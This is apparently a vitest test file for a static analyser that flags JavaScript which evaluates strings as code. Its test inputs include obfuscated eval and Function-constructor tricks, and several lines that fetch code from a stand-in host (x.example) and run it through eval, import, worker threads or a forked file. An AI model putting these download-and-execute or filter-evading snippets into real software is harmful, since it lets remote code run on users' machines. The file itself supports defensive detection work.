import { describe, expect, test } from "vitest";
import { handedOn, only, read } from "./read.ts";

describe("text that becomes code", () => {
  test.each([
    "eval('x()')",
    "(0, eval)('x()')",
    "globalThis.eval('x()')",
    "window['ev' + 'al']('x()')",
    "this['\\x65val']('x()')",
    "const e = eval; e('x()')",
    "eval.call(null, 'x()')",
    "new Function('a', 'x()')",
    "Function('x()')()",
    "Function.prototype.constructor('x()')",
    "[].constructor.constructor('x()')()",
    "''.sub.constructor('x()')()",
    "(async () => {}).constructor('x()')()",
    "Object.getPrototypeOf(async function () {}).constructor('x()')()",
    "(() => {}).constructor.apply(null, ['x()'])",
    "setTimeout('x()', 10)",
    "setInterval('x()')",
    "setImmediate(() => eval('x()'))",
    "process.nextTick(eval, 'x()')",
    "require('vm').runInThisContext('x()')",
    "new (require('node:vm').Script)('x()').runInThisContext()",
    "import vm from 'vm'; vm.runInNewContext('x()', {})",
    "module._compile('x()', 'a.js')",
    "new module.constructor()._compile('x()', 'a.js')",
    "new Worker('x()', { eval: true })",
    "const { Worker } = require('worker_threads'); new Worker('x()', { eval: true })",
    "const s = document.createElement('script'); s.text = 'x()'; document.body.append(s)",
    "import('data:text/javascript,x()')",
  ])("%s", (code) => {
    expect(only(code, "evaluate")).toEqual(["evaluate javascript x()"]);
    expect(handedOn(code, "javascript")).toEqual(["x()"]);
  });

  test.each([
    "setTimeout(() => x(), 10)",
    "setTimeout(x, 10)",
    "export function later(task, delay) { setTimeout(task, delay); }",
    "import { setTimeout as sleep } from 'node:timers/promises';\nconst pause = (await fetch('https://a.example')).headers.get('retry-after');\nawait sleep(pause * 1000)",
    "export function soon(task, error) { setImmediate(task, error); }",
    "export async function soon(url) { queueMicrotask(await (await fetch(url)).text()); }",
    "new (require('node:vm').Script)('x()')",
    "import('./plugin.js')",
    "x.eval('y()')",
    "JSON.parse(a)",
  ])("%s is no text", (code) => {
    expect(only(code, "evaluate")).toEqual([]);
  });

  test.each([
    ["Buffer.from('AGFzbf/D', 'base64')", "\0asm\u{FF}\u{C3} {base64}"],
    ["new Uint8Array([0, 97, 115, 109, 195, 169])", "\0asm\u{C3}\u{A9} {char-codes}"],
  ])("a module of the bytes %s", (bytes, expected) => {
    expect(only(`WebAssembly.instantiate(${bytes})`, "evaluate")).toEqual([`evaluate unknown ${expected}`]);
  });
});

describe("code from elsewhere", () => {
  test.each([
    ["eval(await (await fetch('https://x.example/a')).text())", "https://x.example/a"],
    ["fetch('https://x.example/a').then((r) => r.text()).then(eval)", "https://x.example/a"],
    [
      "fetch('https://x.example/a').then((r) => r.json()).then(({ code }) => new Function(code)())",
      "https://x.example/a",
    ],
    ["const { data } = await axios.get('https://x.example/a'); eval(data)", "https://x.example/a"],
    [
      "let code = ''; require('https').get('https://x.example/a', (r) => { r.on('data', (c) => { code += c }); r.on('end', () => eval(code)) })",
      "https://x.example/a",
    ],
    ["const s = new WebSocket('wss://x.example'); s.onmessage = (e) => eval(e.data)", "wss://x.example"],
    ["const s = new WebSocket('wss://x.example'); s.on('message', (m) => eval(m.toString()))", "wss://x.example"],
    ["const s = document.createElement('script'); s.src = 'https://x.example/a'", "https://x.example/a"],
    ["import('https://x.example/a')", "https://x.example/a"],
    ["require('request')('https://x.example/a', (e, r, body) => eval(body))", "https://x.example/a"],
    [
      "const run = async (u) => { const r = await fetch(u); return r.text() }; eval(await run('https://x.example/a'))",
      "https://x.example/a",
    ],
    [
      "while (true) { const r = await fetch('https://x.example/a'); eval(await r.text()); await sleep(1000) }",
      "https://x.example/a",
    ],
  ])("%s", (code, url) => {
    expect(only(code, "evaluate")).toEqual([`evaluate javascript ~… <${url}>`]);
  });

  test("input of whoever calls", () => {
    expect(only("exports.calc = (text) => eval(text)", "evaluate")).toEqual(["evaluate javascript ~… <input>"]);
    expect(only("require('http').createServer((q) => eval(q.url))", "evaluate")).toEqual([
      "evaluate javascript ~… <input>",
    ]);
    expect(only("server.tool('run', {}, async ({ code }) => eval(code))", "evaluate")).toEqual([
      "evaluate javascript ~… <input>",
    ]);
    expect(only("eval(process.argv[2])", "evaluate")).toEqual(["evaluate javascript ~… <input>"]);
  });

  test("what cannot be decoded here says that it is decoded", () => {
    const text =
      "const d = crypto.createDecipheriv('aes-256-cbc', k, iv); eval(d.update(data, 'hex', 'utf8') + d.final('utf8'))";
    expect(only(text, "evaluate")).toEqual(["evaluate javascript ~… <decoded unknown>"]);
  });
});

test("decoded code is handed on with its encoding", () => {
  const { embedded, operations } = read("eval(atob('YWxlcnQoMSk7'))");
  expect(embedded).toMatchObject([{ text: "alert(1);", layer: { kind: "decoded", encoding: "base64" }, offset: null }]);
  expect(operations).toMatchObject([{ at: { line: 1, column: 1 }, snippet: "eval(atob('YWxlcnQoMSk7'))" }]);
});

test.each([
  "fs.writeFileSync('./w.mjs', await (await fetch('https://x.example/w')).text()); new Worker('./w.mjs')",
  "const f = path.join(os.tmpdir(), `r-${Date.now()}.mjs`); await fs.promises.writeFile(f, await (await fetch('https://x.example/w')).text()); await import(pathToFileURL(f).href)",
  "https.get('https://x.example/w', (r) => r.pipe(fs.createWriteStream('/tmp/w.js')).on('close', () => child_process.fork('/tmp/w.js')))",
  "fs.writeFileSync('w.js', (await axios.get('https://x.example/w')).data); require('./w.js').run()",
])("a file is written and then loaded: %s", (code) => {
  const modules = "import fs from 'fs'; import path from 'path'; import os from 'os'; import https from 'https';";
  const others = "import child_process from 'child_process'; import axios from 'axios';";
  const { operations } = read(`${modules}${others}import { pathToFileURL } from 'url'; ${code}`);
  const runs = operations.flatMap(({ operation }) => (operation.op === "evaluate" ? [operation.code] : []));
  expect(runs).toHaveLength(1);
  expect(runs[0]?.origins.map(({ kind }) => kind)).toEqual(["network", "file"]);
});

test("a file that comes along is not code that was written", () => {
  expect(only("fs.writeFileSync('a.json', '{}'); require('./b.js'); new Worker('./c.js')", "evaluate")).toEqual([]);
});
